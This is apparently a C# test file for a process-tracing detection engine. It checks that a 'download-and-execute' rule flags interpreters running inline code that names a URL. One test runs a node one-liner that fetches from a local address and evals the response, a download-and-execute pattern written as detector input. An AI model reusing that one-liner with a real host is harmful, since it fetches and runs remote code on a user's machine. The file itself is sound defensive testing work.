using Ashiato.Analysis.Detection;
using Ashiato.Analysis.Rules;
using Ashiato.Analysis.Tests.Support;

namespace Ashiato.Analysis.Tests.Detection;

/// <summary>Interpreters running inline code that names a URL, on traces the real tracer records.</summary>
[Trait("Category", "kernel")]
public sealed class InlineCodeTests
{
    private static async Task<DetectionReport> DetectAsync(params string[] command)
    {
        var directory = Directory.CreateTempSubdirectory("ashiato-inline-").FullName;
        try
        {
            var trace = await Tracing.TraceAsync(command, Path.Combine(directory, "trace.jsonl.gz"), directory);
            return await DetectionEngine.BuiltIn().RunAsync(trace.Path);
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }

    [Fact]
    public async Task Node_eval_of_what_a_url_returns_is_medium()
    {
        var report = await DetectAsync("node", "-e",
            "require('http').get('http://127.0.0.1:9/x', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); }).on('error', () => {})");

        var finding = Assert.Single(report.Findings, f => f.RuleId == "download-and-execute");
        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.StartsWith("inline code with a URL: node -e ", finding.Summary);
    }

    [Fact]
    public async Task Python_c_that_only_fetches_a_url_is_low()
    {
        var report = await DetectAsync("python3", "-c",
            "import urllib.request\ntry: urllib.request.urlopen('http://127.0.0.1:9/x', timeout=1)\nexcept Exception: pass");

        // With pyenv, the shim and the real interpreter are two execs with the same arguments: each is reported.
        var findings = report.Findings.Where(f => f.RuleId == "download-and-execute").ToList();
        Assert.NotEmpty(findings);
        Assert.All(findings, f => Assert.Equal(Severity.Low, f.Severity));
        Assert.All(findings, f => Assert.Contains("inline code with a URL", f.Summary));
    }

    [Fact]
    public async Task Inline_code_without_a_url_is_not_a_finding()
    {
        var report = await DetectAsync("node", "-e", "console.log(1 + 1)");

        Assert.DoesNotContain(report.Findings, f => f.RuleId == "download-and-execute");
    }
}
